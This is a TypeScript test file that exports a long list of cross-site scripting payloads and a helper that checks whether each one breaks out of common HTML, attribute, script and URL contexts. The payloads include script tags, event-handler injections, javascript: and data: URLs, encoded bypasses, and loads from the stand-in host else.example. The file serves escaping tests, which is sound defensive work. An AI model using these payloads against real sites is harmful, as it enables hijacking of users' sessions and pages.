import { runInNewContext } from 'node:vm';
import { outlineOf } from '#server/test/visit/outline.ts';

/**
 * Texts that do harm if a page does not escape them: they call `alert`, request something from
 * `else.example`, or add an element.
 */
export const XSS: readonly string[] = [
  // HTML elements.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script src=//else.example/x.js></script>',
  '<script src=data:,alert(1)></script>',
  '<script type=module>alert(1)</script>',
  '<script>alert`1`</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img\tsrc=x\nonerror\r=\falert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src onerror=alert(1)//',
  '<img src="https://else.example/x.png">',
  '<image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x',
  '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<marquee onstart=alert(1)>x',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<iframe src="https://else.example/">',
  '<object data=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<link rel=stylesheet href=//else.example/x.css>',
  '<link rel=preload as=image href=//else.example/x.png>',
  '<style>@import "//else.example/x.css";</style>',
  '<style>body{background:url(//else.example/x)}</style>',
  '<meta http-equiv=refresh content="0;url=https://else.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href=//else.example/>',
  '<form action=javascript:alert(1)><button autofocus>x</button></form>',
  '<form><button formaction=javascript:alert(1)>x',
  '<isindex action=javascript:alert(1) type=submit>',
  '<a href=javascript:alert(1)>x</a>',
  '<x onpointerenter=alert(1) style=position:fixed;inset:0>x',
  '<xss style="animation:a" onanimationstart=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>x',
  '<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x',
  // Texts that end an attribute or the element around them.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '"/><svg/onload=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" onmouseover="alert(1)',
  '"onmouseover=alert(1)//',
  '" style="position:fixed;inset:0" onpointerenter="alert(1)',
  '"\tonclick\n=\r"alert(1)',
  '" href="javascript:alert(1)',
  '` onmouseover=alert(1) x=`',
  ' onmouseover=alert(1) x=',
  '"\u00a0><b>x</b>',
  '\u2028"><b>x</b>',
  '"\0><script>alert(1)</script>',
  '</a><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</main></body></html><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '--!><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml-stylesheet ?><script>alert(1)</script>',
  // Texts that end a string in a script.
  '";alert(1);//',
  "';alert(1);//",
  '"-alert(1)-"',
  "'-alert(1)-'",
  '\\";alert(1);//',
  '${alert(1)}',
  '`;alert(1);`',
  '"+alert(1)+"',
  '"\u2028;alert(1)//',
  '"});alert(1);({"x":"',
  '<!--<script>"-alert(1)-"',
  // SVG, MathML, and markup that changes when it is parsed a second time.
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><a xlink:href=javascript:alert(1)>x',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><script>alert(1)</script></template>',
  '<form id=x><input name=attributes><input name=innerHTML>',
  '<a id=document><a id=document name=cookie href=cid:x>',
  // Addresses.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript&colon;alert(1)',
  'java&#115;cript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'shop:"><script>alert(1)</script>',
  "shop:'><script>alert(1)</script>",
  'shop://x/?"onfocus=alert(1) autofocus x="',
  // Harmless until a later step normalizes, decodes or interpolates them.
  '＜script＞alert(1)＜/script＞',
  '＂＞＜img src=x onerror=alert(1)＞',
  '﹤script﹥alert(1)﹤/script﹥',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%22%3E%3Cimg src=x onerror=alert(1)%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;',
  '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\ud83cscript>alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
];

/** Locations where a page without escaping would insert a text. */
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => `<p>${payload}</p>`,
  (payload) => `<title>${payload}</title>`,
  (payload) => `<a href="${payload}">x</a>`,
  (payload) => `<a href='${payload}'>x</a>`,
  (payload) => `<a href=${payload}>x</a>`,
  (payload) => `<a href="shop://p/${payload}">x</a>`,
  (payload) => `<style>a{${payload}}</style>`,
  (payload) => `<textarea>${payload}</textarea>`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<!-- ${payload} -->`,
  (payload) => `<script>x = "${payload}"</script>`,
];

const UNBROKEN = PLACES.map((place) => outlineOf(place('x')).join());

/** Returns whether a text does anything if a page inserts it without escaping. */
export function isEffective(payload: string): boolean {
  const breaksOut = PLACES.some(
    (place, index) => outlineOf(place(payload)).join() !== UNBROKEN[index],
  );
  const runs = ['"', "'", '`'].some((quote) => {
    let ran = false;
    try {
      runInNewContext(`x = ${quote}${payload}${quote}`, { alert: () => (ran = true) });
    } catch {
      // A script may call `alert` and then throw, and some texts are not scripts at all.
    }
    return ran;
  });
  return breaksOut || runs || /^\s*javascript:|^data:/i.test(payload);
}
